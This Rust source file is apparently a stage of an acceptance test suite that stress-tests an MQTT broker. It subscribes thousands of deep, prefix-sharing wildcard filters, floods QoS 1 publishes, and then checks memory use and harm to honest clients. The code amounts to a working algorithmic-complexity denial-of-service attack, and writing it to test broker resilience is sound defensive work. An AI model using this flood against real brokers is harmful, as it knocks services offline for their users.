//! Filters that share every prefix: each level that may be `a` or `+` doubles the nodes that one
//! publish visits, and the levels behind are walked once for each.

use std::time::Instant;

use unbroken_acceptance::raw::{Connect, Packet, Publish, Subscribe, Version};

use crate::broker::Setup;
use crate::link::{Link, PATIENCE};
use crate::stage::{AttackError, Check, MEMORY_MIB, Outcome, Scale, Stage, unharmed};

/// Levels that are `a` or `+`; two to this power is the number of filters.
const FREE_LEVELS: u32 = 13;
const LEVELS: usize = 200;
const FILTERS_AT_ONCE: usize = 128;
/// Publishes that wait for an acknowledgement: 15 KB.
const AT_ONCE: u16 = 38;

pub(super) fn run(scale: Scale) -> Result<Outcome, AttackError> {
    let stage = Stage::set(Setup::default())?;
    let mut attacker = Link::connect(stage.broker.address, &Connect::v5("attacker"))?;
    let before = stage.broker.usage().now_mib();
    let taken = subscribe(&mut attacker)?;
    let after = stage.broker.usage().now_mib();
    println!(
        "  {taken} subscriptions taken, {} bytes each",
        (after - before.min(after)) * 1024 * 1024 / taken.max(1)
    );
    let published = publish(&mut attacker, scale)?;
    println!("  {published} publishes answered");
    let (broker, honest) = stage.finish();
    let mut checks = unharmed(&honest, scale);
    checks.push(Check::mib("memory", broker.usage().peak_mib(), MEMORY_MIB));
    Ok(Outcome::Measured(checks))
}

/// Returns how many of them the broker took.
fn subscribe(attacker: &mut Link) -> Result<u64, AttackError> {
    let all: Vec<u32> = (0..1 << FREE_LEVELS).collect();
    let mut taken = 0;
    for some in all.chunks(FILTERS_AT_ONCE) {
        let mut request = Subscribe::default();
        for number in some {
            request = request.and(&filter(*number), 1);
        }
        attacker.send(&request.encode(Version::V5, 1))?;
        loop {
            if let Packet::SubAck(answer) = attacker.receive(PATIENCE)? {
                taken += answer.codes.iter().filter(|code| **code < 0x80).count() as u64;
                break;
            }
        }
    }
    Ok(taken)
}

fn filter(number: u32) -> String {
    let level = |at: usize| {
        let is_free = at < FREE_LEVELS as usize && number >> at & 1 == 1;
        if is_free { "+" } else { "a" }
    };
    let levels: Vec<_> = (0..LEVELS - 1).map(level).chain(["z"]).collect();
    levels.join("/")
}

/// Each has a topic of its own, so that no cached route answers. Returns how many were answered.
fn publish(attacker: &mut Link, scale: Scale) -> Result<u64, AttackError> {
    let until = Instant::now() + scale.time();
    let lead = "a/".repeat(LEVELS - 1);
    let (mut sent, mut answered) = (0, 0);
    let mut free: Vec<u16> = (1..=AT_ONCE).collect();
    while Instant::now() < until {
        if let Some(packet_id) = free.pop() {
            let topic = format!("{lead}q{sent}");
            let message = Publish::new(&topic, "").qos(1).packet_id(packet_id);
            attacker.send(&message.encode(Version::V5))?;
            sent += 1;
            continue;
        }
        if let Some(Packet::Ack(ack)) = attacker.poll(until - Instant::now().min(until))? {
            free.push(ack.packet_id);
            answered += 1;
        }
    }
    Ok(answered)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn filters_differ_in_their_first_levels_only() {
        assert!(filter(0).starts_with("a/a/a/"));
        assert!(filter(5).starts_with("+/a/+/a/"));
        assert_eq!(filter(5).split('/').count(), LEVELS);
        assert!(filter(8_191).ends_with("a/z"));
    }
}
